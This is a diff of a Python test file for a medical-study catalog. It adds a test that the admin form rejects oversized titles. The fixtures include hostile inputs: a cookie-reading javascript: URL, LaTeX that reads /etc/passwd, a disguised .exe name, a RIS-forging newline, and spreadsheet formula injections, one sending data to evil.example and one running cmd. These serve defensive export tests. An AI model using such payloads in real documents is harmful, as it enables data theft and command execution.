@@ -32,7 +32,8 @@ JS_URL = "javascript:alert(document.cookie)"
 LATEX = r"\href{javascript:alert(1)}{click} \input{/etc/passwd} $x^2$ {unbalanced"
 RLO = "\u202egnp.exe"  # right-to-left override: displays as "exe.png"
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|'/c calc'!A0", "@SUM(1+1)"]
-HUGE = "LDN " * 25_000  # 100 kB
+HUGE = "LDN " * 25_000  # 100 kB: more than any field may hold (studies/limits.py)
+LONGEST = "LDN " * 250  # 1,000 characters: the longest title the catalog keeps
 
 HOSTILE_TITLES = [
     f"{SCRIPT} Low-dose naltrexone",
@@ -40,7 +41,7 @@ HOSTILE_TITLES = [
     f"Fibromyalgia {RLO}",
     *FORMULAS,
     "Line one\nER  - \r\nTY  - JOUR",  # a newline that would forge a RIS record
-    HUGE,
+    LONGEST,
 ]
 
 
@@ -131,7 +132,7 @@ class TestExports:
                 assert not value.startswith(FORMULA_PREFIXES), (column, value[:50])
         titles = [row["title"] for row in rows]
         assert titles[3] == "'" + FORMULAS[0]
-        assert titles[-1] == HUGE
+        assert titles[-1] == LONGEST
 
     def test_ris_values_stay_on_one_line(self):
         text = export("ris")
@@ -290,8 +291,19 @@ class ThroughTheCuratorToolsTests(TestCase):
         stored = Study.objects.filter(slug__startswith="hostile-")
         assert stored.count() == len(HOSTILE_TITLES)
         assert stored.get(slug="hostile-0").title == HOSTILE_TITLES[0]
-        # The 100 kB title too (a TextField), less the trailing space the form strips.
-        assert stored.get(slug=f"hostile-{len(HOSTILE_TITLES) - 1}").title == HUGE.strip()
+        # The longest title too, less the trailing space the form strips.
+        assert stored.get(slug=f"hostile-{len(HOSTILE_TITLES) - 1}").title == LONGEST.strip()
+
+    def test_the_admin_refuses_a_title_over_the_limit_with_a_form_error(self):
+        client = Client()
+        client.force_login(self.admin)
+        data = inline_forms() | {"title": HUGE, "slug": "huge", "design": "rct"}
+        response = client.post(ADMIN_ADD["study"], data | {"status": "published"})
+        assert response.status_code == 200
+        assert response.context["adminform"].form.errors["title"] == [
+            "Ensure this value has at most 1000 characters (it has 99999)."
+        ]
+        assert not Study.objects.filter(slug="huge").exists()
 
     def test_the_importer_refuses_what_it_cannot_store_and_says_why(self):
         # 99,999: BibTeX drops the title's trailing space.
